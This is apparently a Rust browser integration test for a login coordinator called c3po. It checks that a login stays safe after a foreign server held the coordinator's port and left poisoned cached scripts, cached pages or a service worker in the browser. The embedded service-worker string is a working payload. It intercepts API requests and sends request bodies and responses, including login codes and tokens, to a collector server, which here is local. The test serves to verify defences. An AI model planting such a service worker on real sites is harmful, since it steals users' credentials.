//! A foreign server that had the coordinator's port for a while: what it left in the browser ends with it.

use std::sync::{Arc, Mutex, PoisonError};

use anyhow::{Result, ensure};
use harness::browser::{self, Browser, foreign_server};
use harness::coordinator::Coordinator;
use harness::skip::skipped;
use tempfile::TempDir;

use crate::login_page::{link, log_in};

/// A page that leaves long-lived copies of scripts of the coordinator; if its address ends with `worker`, a worker too, and with
/// `pages`, copies of its pages.
const PAGE: &str = r#"<!doctype html><title>down</title><script>
    const pages = location.search === "?pages" ? ["/login", "/q"] : [];
    const copies = ["/web/login.js", "/web/q.js", ...pages].map((part) => fetch(part, {cache: "reload"}));
    const worker = location.search === "?worker" && navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready);
    Promise.all([...copies, worker]).then(() => document.title = "ready");</script>"#;
const SCRIPT: &str = r#"document.title = "poisoned";"#;
const COPY: &str = "<!doctype html><title>poisoned</title>";
/// It sends each code and token to `COLLECTOR`.
const WORKER: &str = r#"self.addEventListener("install", () => self.skipWaiting());
    self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
    async function copy(request) {
        const code = await request.clone().text();
        const response = await fetch(request);
        fetch("COLLECTOR?" + encodeURIComponent(code + await response.clone().text()), {mode: "no-cors"});
        return response;
    }
    self.addEventListener("fetch", (event) => {
        if (event.request.url.includes("/api/v1/")) event.respondWith(copy(event.request));
    });"#;

const FREE: &str = "(await navigator.serviceWorker.getRegistrations()).length === 0 && !navigator.serviceWorker.controller";

/// Returns the answer of the foreign server to a request with that first line.
fn foreign(line: &str, worker: &str) -> String {
    let (media, content) = match line {
        line if line.contains("/sw.js") => ("javascript", worker),
        line if line.contains("/web/") => ("javascript", SCRIPT),
        line if line.contains("/login ") || line.contains("/q ") => ("html", COPY),
        _ => return format!("Content-Type: text/html\r\nCache-Control: no-store\r\n\r\n{PAGE}"),
    };
    format!(
        "Content-Type: text/{media}\r\nCache-Control: max-age=31536000, immutable\r\n\r\n{content}"
    )
}

#[tokio::test]
async fn a_login_is_safe_from_the_server_that_had_the_port_before() -> Result<()> {
    if !browser::is_installed() {
        return skipped("former_server", "chromium-driver is not installed");
    }
    for left in ["worker", "copies", "pages"] {
        let work = TempDir::new()?;
        let store = format!("sqlite:{}", work.path().join("c3po.db").display());
        let mut coordinator = Coordinator::absent(work.path(), &store)?;
        let (address, base) = (coordinator.address(), coordinator.url());
        let browser = Browser::start(work.path()).await?;

        let stolen = Arc::new(Mutex::new(Vec::new()));
        let keep = Arc::clone(&stolen);
        let collect = move |line: &str| {
            keep.lock()
                .unwrap_or_else(PoisonError::into_inner)
                .push(line.to_owned());
            "\r\n".to_owned()
        };
        let (collector, _collecting) = foreign_server(([127, 0, 0, 1], 0).into(), collect).await?;
        let worker = WORKER.replace("COLLECTOR", &format!("http://{collector}/"));
        let (_, serving) = foreign_server(address, move |line| foreign(line, &worker)).await?;
        browser.open(&format!("{base}/q?{left}")).await?;
        browser.wait_for("document.title === 'ready'").await?;
        drop(serving);
        coordinator.restart().await?;

        // The first visit may still be the foreign worker's.
        if left == "worker" {
            browser.open(&format!("{base}/login")).await?;
            browser.wait_for(FREE).await?;
        }
        let seen = stolen.lock().unwrap_or_else(PoisonError::into_inner).len();
        browser.open("about:blank").await?;
        let token = log_in(&browser, &base, &link(work.path(), &coordinator).await?).await?;
        ensure!(
            browser.run("return document.title").await? == "c3po: log in",
            "{left}"
        );
        browser.open(&format!("{base}/login")).await?;
        browser
            .wait_for("document.title === 'c3po: log in'")
            .await?;
        browser.open(&format!("{base}/q")).await?;
        browser
            .wait_for("document.title.endsWith('waiting - c3po')")
            .await?;
        let stolen = stolen
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .clone();
        ensure!(
            stolen.len() == seen && stolen.iter().all(|line| !line.contains(&token)),
            "{left}: {stolen:?}"
        );
    }
    Ok(())
}
